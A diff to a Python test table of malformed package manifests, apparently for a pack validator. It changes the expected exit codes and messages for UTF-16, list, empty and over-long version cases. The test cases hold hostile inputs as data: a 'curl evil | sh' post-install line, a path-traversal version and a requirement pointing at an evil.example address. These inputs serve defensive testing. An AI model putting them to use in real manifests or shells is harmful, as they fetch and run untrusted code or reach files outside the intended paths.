@@ -112,12 +112,12 @@ PACKS: Mapping[str, Case] = {
     "a long manifest": Case(manifest("#" + "x" * 300_000 + "\n"), 2, "longer than"),
     "two documents": Case(manifest("---\nschema: 1\n"), 2, "second document"),
     "NUL in the manifest": Case(lambda box: box.pack(good(pack=MANIFEST.encode() + b"\x00")), 5, "U+0000"),
-    "manifest in UTF-16": Case(lambda box: box.pack(good(pack=MANIFEST.encode("utf-16"))), 4, ""),
+    "manifest in UTF-16": Case(lambda box: box.pack(good(pack=MANIFEST.encode("utf-16"))), 2, "version"),
     "manifest in Latin-1": Case(
         lambda box: box.pack(good(pack=MANIFEST.encode() + b"homepage: \xe4\n")), 5, "not-utf-8"
     ),
-    "a manifest that is a list": Case(lambda box: box.pack(good(pack="- name: bad\n")), 4, ""),
-    "an empty manifest": Case(lambda box: box.pack(good(pack="")), 4, ""),
+    "a manifest that is a list": Case(lambda box: box.pack(good(pack="- name: bad\n")), 2, "version"),
+    "an empty manifest": Case(lambda box: box.pack(good(pack="")), 2, "version"),
     "a key that is a map": Case(manifest("? {a: b}\n: c\n"), 2, ""),
     "an unknown directive": Case(lambda box: box.pack(good(pack="%TAG ! tag:evil,2000:\n---\n" + MANIFEST)), 2, ""),
     # the manifest's values
@@ -126,9 +126,9 @@ PACKS: Mapping[str, Case] = {
     "an unknown key": Case(manifest("post_install: curl evil | sh\n"), 2, "unknown key"),
     "hooks in the manifest": Case(manifest("hooks: {install: id}\n"), 2, "unknown key"),
     "a huge number": Case(manifest("parameters: {a: {type: integer, default: 1" + "0" * 5000 + "}}\n"), 2, ""),
-    "a number of 10,000 digits as version": Case(_version("1.0." + "9" * 10_000), 4, ""),
+    "a number of 10,000 digits as version": Case(_version("1.0." + "9" * 10_000), 2, "not a version"),
     "a local version": Case(_version("1.0.0+evil"), 2, "three numbers"),
-    "a version with a slash": Case(_version("1.0.0/../../x"), 4, ""),
+    "a version with a slash": Case(_version("1.0.0/../../x"), 2, "not a version"),
     "a requirement that is none": Case(manifest("requires: ['other>>1']\n"), 2, "range"),
     "a requirement on an address": Case(manifest("requires: ['x @ https://evil.example/x']\n"), 4, ""),
     "a pack that requires itself": Case(manifest("requires: ['bad>=2']\n"), 4, ""),
